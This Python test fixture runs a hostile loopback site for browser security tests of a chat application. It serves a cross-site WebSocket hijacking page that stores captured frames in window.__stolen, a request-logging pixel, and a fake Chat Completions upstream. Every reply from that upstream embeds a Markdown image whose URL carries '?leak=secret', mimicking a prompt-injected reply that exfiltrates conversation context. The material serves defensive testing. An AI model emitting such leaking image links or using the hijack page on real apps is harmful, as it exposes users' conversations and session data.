"""Another site on another loopback port, for the browser tests of what a hostile page or a
hostile reply can do (`test_hostile_pages.py`).

It serves:

- `/socket-thief.html#<ws url>`: a page that opens a WebSocket to the URL in its fragment and
  records what it gets in `window.__stolen` (frames) and `window.__closed` (the close code):
  cross-site WebSocket hijacking, as a page of another app on the same host would try it;
- `/pixel.png`: an image, each request recorded in `requests`: a remote image a reply shows
  would leak the conversation's context in its URL;
- `POST /v1/chat/completions`: a Chat Completions upstream whose every reply shows that image
  in Markdown, as a prompt-injected reply would.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

SOCKET_THIEF = b"""<!doctype html><meta charset="utf-8"><title>A page of another app</title>
<script>
  window.__stolen = [];
  window.__closed = null;
  const socket = new WebSocket(decodeURIComponent(location.hash.slice(1)));
  socket.onmessage = (message) => window.__stolen.push(message.data);
  socket.onclose = (event) => (window.__closed = event.code);
</script>"""
# The smallest valid PNG: one transparent pixel.
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)


@dataclass
class AnotherSite:
    url: str  # http://127.0.0.1:PORT
    requests: list[str] = field(default_factory=list)  # the paths asked for, in order

    @property
    def pixel_url(self) -> str:
        return f"{self.url}/pixel.png"

    def reply(self) -> str:
        return f"Here is the chart: ![chart]({self.pixel_url}?leak=secret) as promised."


class _Handler(BaseHTTPRequestHandler):
    site: AnotherSite

    def do_GET(self) -> None:  # noqa: N802 (the http.server name)
        self.site.requests.append(self.path)
        if self.path.startswith("/socket-thief.html"):
            self._send(200, "text/html; charset=utf-8", SOCKET_THIEF)
        elif self.path.startswith("/pixel.png"):
            self._send(200, "image/png", PIXEL)
        else:
            self._send(404, "text/plain", b"not found")

    def do_POST(self) -> None:  # noqa: N802
        self.site.requests.append(self.path)
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self._send(200, "text/event-stream", _completion_stream(self.site.reply()))

    def _send(self, status: int, content_type: str, body: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
        pass  # the tests read `requests`


def _completion_stream(text: str) -> bytes:
    def chunk(delta: dict[str, Any], finish: str | None = None) -> bytes:
        choice = {"index": 0, "delta": delta, "finish_reason": finish}
        body = {"id": "chatcmpl-another", "object": "chat.completion.chunk", "created": 0,
                "model": "another-model", "choices": [choice]}  # fmt: skip
        return f"data: {json.dumps(body)}\n\n".encode()

    first = chunk({"role": "assistant", "content": ""})
    return first + chunk({"content": text}) + chunk({}, "stop") + b"data: [DONE]\n\n"


@contextmanager
def another_site() -> Iterator[AnotherSite]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    site = AnotherSite(f"http://127.0.0.1:{server.server_address[1]}")
    _Handler.site = site
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield site
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=10)
